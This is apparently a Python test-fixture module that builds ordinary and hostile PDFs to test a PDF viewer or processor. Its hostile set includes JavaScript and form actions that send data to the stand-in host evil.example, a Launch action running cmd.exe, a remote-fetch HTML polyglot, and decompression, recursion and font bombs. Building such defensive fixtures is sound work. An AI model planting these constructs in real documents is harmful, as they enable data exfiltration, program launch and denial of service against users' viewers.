"""PDFs for tests, written by hand: honest ones, and such that no viewer should trust.

They are made when they are needed. It knows the file format, nothing of the product.
"""

import base64
import random
import zlib
from collections.abc import Callable, Mapping
from typing import Final

A4: Final = (595, 842)
EVIL: Final = "https://evil.example/leak"
_FONT: Final = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
_SCRIPT: Final = b"(app.alert\\('ran'\\); this.submitForm\\('" + EVIL.encode() + b"'\\))"
# 16 x 16, left half black, as JPEG 2000.
_J2K: Final = base64.b64decode(
    "/0//UQApAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAABBwEB/1IADAAAAAEABAQEAAH/XAAQ"
    "QEBISFBISFBISFBISFD/ZAAlAAFDcmVhdGVkIGJ5IE9wZW5KUEVHIHZlcnNpb24gMi41LjT/kAAKAAAAAAA0"
    "AAH/k8+0CAcfz8AIAGnPwBQI8UtdJc/AJBcsqIk6JhZXrcfaCAAhbgf6/9k="
)
# The same after ITU-T T.6: first row white 8, black 8; each further row as the one above.
_T6: Final = "001" + "10011" + "000101" + "11" * 15 + "000000000001" * 2


class Writer:
    """Collects numbered objects and writes them with their table."""

    def __init__(self) -> None:
        self._objects: list[bytes] = []

    def add(self, body: bytes = b"") -> int:
        """A new object; its number."""
        self._objects.append(body)
        return len(self._objects)

    def put(self, number: int, body: bytes) -> None:
        self._objects[number - 1] = body

    def stream(self, content: bytes, facts: bytes = b"") -> int:
        body = b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), facts, content)
        return self.add(body)

    def page(
        self, parent: int, content: int, size: tuple[int, int] = A4, facts: bytes = b""
    ) -> int:
        return self.add(
            b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 %d %d]/Contents %d 0 R%s>>"
            % (parent, *size, content, facts)
        )

    def tree(self, number: int, pages: list[int], count: int | None = None) -> None:
        kids = b" ".join(b"%d 0 R" % page for page in pages)
        total = len(pages) if count is None else count
        self.put(number, b"<</Type/Pages/Count %d/Kids[%s]>>" % (total, kids))

    def finish(self, root: int, facts: bytes = b"") -> bytes:
        out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        places = []
        for number, body in enumerate(self._objects, 1):
            places.append(len(out))
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        table = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
        out += b"".join(b"%010d 00000 n \n" % place for place in places)
        out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
            len(places) + 1, root, facts, table,
        )  # fmt: skip
        return bytes(out)


def document(
    pages: int = 3,
    *,
    size: tuple[int, int] = A4,
    catalog: bytes = b"",
    page: bytes = b"",
    content: bytes = b"",
    resources: bytes = b"",
    trailer: bytes = b"",
    noise_bytes: int = 0,
    prepare: Callable[[Writer], Mapping[str, int]] | None = None,
) -> bytes:
    """Pages with a number each. What is given is put in as it is; `%(name)d` in it stands for the
    number of an object that `prepare` made. `noise_bytes` a page make it large."""
    writer = Writer()
    root, tree, font = writer.add(), writer.add(), writer.add(_FONT)
    made = {key.encode(): number for key, number in (prepare(writer) if prepare else {}).items()}
    leaves = []
    for number in range(1, pages + 1):
        text = b"q BT /F 48 Tf 60 %d Td (Seite %d) Tj ET Q\n" % (size[1] - 100, number)
        drawn, pictured = (
            content % made if made else content,
            resources % made if made else resources,
        )
        if noise_bytes:
            picture = _noise(writer, noise_bytes, number)
            drawn += b" q 400 0 0 400 90 200 cm /Noise Do Q"
            pictured += b"/XObject<</Noise %d 0 R>>" % picture
        body = writer.stream(text + drawn)
        facts = b"/Resources<</Font<</F %d 0 R>>%s>>" % (font, pictured)
        leaves.append(writer.page(tree, body, size, facts + (page % made if made else page)))
    writer.tree(tree, leaves)
    writer.put(
        root, b"<</Type/Catalog/Pages %d 0 R%s>>" % (tree, catalog % made if made else catalog)
    )
    return writer.finish(root, trailer)


def large(pages: int, total_bytes: int) -> bytes:
    """Every page carries its share of bytes that cannot be packed."""
    return document(pages, noise_bytes=total_bytes // pages)


def _noise(writer: Writer, count: int, seed: int) -> int:
    side = int((count / 3) ** 0.5)
    pixels = random.Random(seed).randbytes(side * side * 3)
    return writer.stream(pixels, _image(side, side, b"/ColorSpace/DeviceRGB/BitsPerComponent 8"))


def _image(width: int, height: int, facts: bytes) -> bytes:
    return b"/Type/XObject/Subtype/Image/Width %d/Height %d%s" % (width, height, facts)


def _pictured(facts: bytes, content: bytes, width: int = 16, height: int = 16) -> bytes:
    def prepare(writer: Writer) -> Mapping[str, int]:
        return {"picture": writer.stream(content, _image(width, height, facts))}

    return document(
        1,
        content=b"q 400 0 0 400 90 200 cm /P Do Q",
        resources=b"/XObject<</P %(picture)d 0 R>>",
        prepare=prepare,
    )


_GRAY: Final = b"/ColorSpace/DeviceGray/BitsPerComponent 8"
_BIT: Final = b"/ColorSpace/DeviceGray/BitsPerComponent 1"


def jpeg2000() -> bytes:
    return _pictured(b"/Filter/JPXDecode", _J2K)


def fax() -> bytes:
    facts = _BIT + b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 16/Rows 16>>"
    return _pictured(facts, _bits(_T6))


def jbig2(width: int = 16, height: int = 16) -> bytes:
    """A page of one region that is packed as a fax."""
    info = _four(width) + _four(height) + bytes(8) + b"\x00" + b"\x00\x00"
    region = _four(width) + _four(height) + bytes(8) + b"\x00" + b"\x01" + _bits(_T6)
    segments = (
        _four(0) + b"\x30\x00\x01" + _four(len(info)) + info,
        _four(1) + b"\x26\x00\x01" + _four(len(region)) + region,
    )
    return _pictured(_BIT + b"/Filter/JBIG2Decode", b"".join(segments), width, height)


def _four(number: int) -> bytes:
    return number.to_bytes(4, "big")


def _bits(text: str) -> bytes:
    return int(text.ljust(-len(text) // 8 * -8, "0"), 2).to_bytes(-(-len(text) // 8), "big")


# ---- what no viewer should trust: by what it tries


def _actions() -> bytes:
    """Scripts, programs, forms and addresses, wherever something starts by itself."""
    script = b"<</S/JavaScript/JS %s>>" % _SCRIPT
    launch = b"<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    uri = b"<</S/URI/URI(%s)>>" % EVIL.encode()
    submit = b"<</S/SubmitForm/F<</FS/URL/F(%s)>>/Fields[]>>" % EVIL.encode()
    far = b"<</S/GoToR/F<</FS/URL/F(%s)>>/D[0/Fit]>>" % EVIL.encode()
    annotations = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A %s/AA<</PV %s/PO %s/E %s>>>>"
        % (action, action, action, action)
        for action in (script, launch, uri, submit, far)
    )
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(x)/Rect[60 60 300 90]/F 4"
        b"/AA<</F %s/K %s/C %s/V %s>>>>" % (script, script, script, script)
    )
    return document(
        1,
        catalog=b"/OpenAction %s/AA<</WC %s/DS %s>>/Names<</JavaScript<</Names[(a) %s]>>>>"
        b"/AcroForm<</Fields[]/NeedAppearances true/XFA[(template)(x)]>>"
        % (script, launch, uri, script),
        page=b"/AA<</O %s/C %s>>/Annots[%s%s]" % (script, submit, annotations, field),
    )


def _fetches() -> bytes:
    """Pictures, contents, fonts and files that lie elsewhere."""
    elsewhere = b"<</FS/URL/F(%s)>>" % EVIL.encode()

    def prepare(writer: Writer) -> Mapping[str, int]:
        facts = _image(16, 16, _GRAY) + b"/F %s" % elsewhere
        font = b"/F %s/Length1 10" % elsewhere
        return {"picture": writer.stream(b"", facts), "font": writer.stream(b"", font)}

    return document(
        1,
        content=b"q 400 0 0 400 90 200 cm /P Do Q BT /G 20 Tf 60 100 Td (fern) Tj ET",
        resources=b"/XObject<</P %(picture)d 0 R>>/ExtGState<<>>",
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(%s)"
        b"/EF<</F %%(font)d 0 R>>>>]>>>>" % EVIL.encode(),
        prepare=prepare,
    )


def _circles() -> bytes:
    """A tree of pages that comes back to itself, and a form that draws itself."""

    def prepare(writer: Writer) -> Mapping[str, int]:
        form = writer.add()
        facts = (
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</X %d 0 R>>>>"
            % form
        )
        content = b"/X Do " * 10
        body = b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), facts, content)
        writer.put(form, body)
        return {"form": form}

    return document(1, content=b"/X Do", resources=b"/XObject<</X %(form)d 0 R>>", prepare=prepare)


def _endless_tree() -> bytes:
    writer = Writer()
    root, tree, inner = writer.add(), writer.add(), writer.add()
    writer.put(root, b"<</Type/Catalog/Pages %d 0 R>>" % tree)
    writer.put(tree, b"<</Type/Pages/Count 3/Kids[%d 0 R %d 0 R]>>" % (inner, tree))
    writer.put(inner, b"<</Type/Pages/Count 3/Kids[%d 0 R]>>" % tree)
    return writer.finish(root)


def _many_pages() -> bytes:
    return document(10_000)


def _claimed_pages() -> bytes:
    return document(1).replace(b"/Count 1", b"/Count 2147483647")


def _flate_bomb() -> bytes:
    side = 10_000
    packer = zlib.compressobj(1)
    rows = b"".join(packer.compress(bytes(side * 100)) for _ in range(side // 100))
    facts = _GRAY + b"/Filter/FlateDecode"
    return _pictured(facts, rows + packer.flush(), side, side)


def _huge_jpeg2000() -> bytes:
    """The head says 60,000 x 60,000."""
    at = _J2K.index(b"\xff\x51") + 6
    side = (60_000).to_bytes(4, "big")
    return _pictured(b"/Filter/JPXDecode", _J2K[:at] + side + side + _J2K[at + 8 :], 60_000, 60_000)


def _busy_page() -> bytes:
    """Two million strokes over each other, packed into little."""
    content = zlib.compress(b"0 0 m 595 842 l S 595 0 m 0 842 l S\n" * 1_000_000, 9)
    writer = Writer()
    root, tree = writer.add(), writer.add()
    writer.put(root, b"<</Type/Catalog/Pages %d 0 R>>" % tree)
    body = writer.stream(content, b"/Filter/FlateDecode")
    writer.tree(tree, [writer.page(tree, body)])
    return writer.finish(root)


def _font_bomb() -> bytes:
    """A TrueType font that promises 65,535 glyphs and holds nonsense."""
    tables = b"".join(
        tag + bytes(4) + (28 + 16 * 9).to_bytes(4, "big") + (2**31 - 1).to_bytes(4, "big")
        for tag in (b"cmap", b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp", b"name", b"post")
    )
    font = b"\x00\x01\x00\x00\x00\x09" + bytes(6) + tables + b"\xff" * 5_000

    def prepare(writer: Writer) -> Mapping[str, int]:
        data = writer.stream(zlib.compress(font), b"/Filter/FlateDecode/Length1 %d" % len(font))
        described = writer.add(
            b"<</Type/FontDescriptor/FontName/Bomb/Flags 4/FontBBox[0 0 1000 1000]/ItalicAngle 0"
            b"/Ascent 800/Descent -200/CapHeight 700/StemV 80/FontFile2 %d 0 R>>" % data
        )
        return {
            "font": writer.add(
                b"<</Type/Font/Subtype/TrueType/BaseFont/Bomb/FirstChar 0/LastChar 255/Widths[%s]"
                b"/FontDescriptor %d 0 R>>" % (b"500 " * 256, described)
            )
        }

    return document(
        1,
        content=b"BT /B 40 Tf 60 300 Td (Bombe) Tj ET",
        page=b"",
        resources=b"/Pattern<<>>",
        prepare=prepare,
    ).replace(b"/Font<</F 3 0 R>>", b"/Font<</F 3 0 R/B 6 0 R>>")


def _encrypted() -> bytes:
    secret = b"/V 1/R 2/P -4/O<%s>/U<%s>" % (b"41" * 32, b"42" * 32)
    return document(1, trailer=b"/Encrypt<</Filter/Standard%s>>/ID[<00><00>]" % secret)


def _damaged() -> bytes:
    return b"%PDF-1.7\n" + random.Random(1).randbytes(200_000)


def _cut_off() -> bytes:
    """Half of a document: what is there can be seen."""
    whole = document(4)
    return whole[: len(whole) // 2]


def _polyglot() -> bytes:
    """Is also a page of HTML."""
    return document(1).replace(
        b"%\xe2\xe3\xcf\xd3\n",
        b"%\xe2\xe3\xcf\xd3\n%<html><script>fetch('" + EVIL.encode() + b"')</script>\n",
    )


HOSTILE: Final[Mapping[str, Callable[[], bytes]]] = {
    "actions": _actions,
    "fetches": _fetches,
    "circles": _circles,
    "endless-tree": _endless_tree,
    "many-pages": _many_pages,
    "claimed-pages": _claimed_pages,
    "huge-page": lambda: document(1, size=(20_000, 20_000)),
    "huge-jbig2": lambda: jbig2(60_000, 60_000),
    "huge-jpeg2000": _huge_jpeg2000,
    "flate-bomb": _flate_bomb,
    "busy-page": _busy_page,
    "font-bomb": _font_bomb,
    "encrypted": _encrypted,
    "damaged": _damaged,
    "cut-off": _cut_off,
    "polyglot": _polyglot,
}
